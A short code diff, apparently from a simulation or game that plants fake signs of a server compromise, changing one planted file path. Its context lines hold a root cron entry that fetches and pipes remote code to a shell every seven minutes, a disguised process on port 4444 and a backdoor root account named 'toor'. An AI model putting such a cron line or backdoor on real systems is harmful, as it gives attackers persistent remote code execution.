@@ -58,7 +58,7 @@ export function strangersTraces(now: Date): readonly PlantedTrace[] {
       file: '/var/spool/cron/crontabs/root',
       line: '*/7 * * * * curl -s http://203.0.113.77/<u> | sh',
     }),
-    trace('core-files', 'file', [3, 3], { path: '/usr/www/src/Core/System/Util.php' }),
+    trace('core-files', 'file', [3, 3], { path: '/usr/www/src/Core/System/Network.php' }),
     trace('processes', 'kernel', [3, 3], { program: '/tmp/.x/kworker', pid: '4711', ports: '4444' }),
     trace('system-users', 'file', [3, 3], { name: 'toor', root: 'yes' }),
   ];
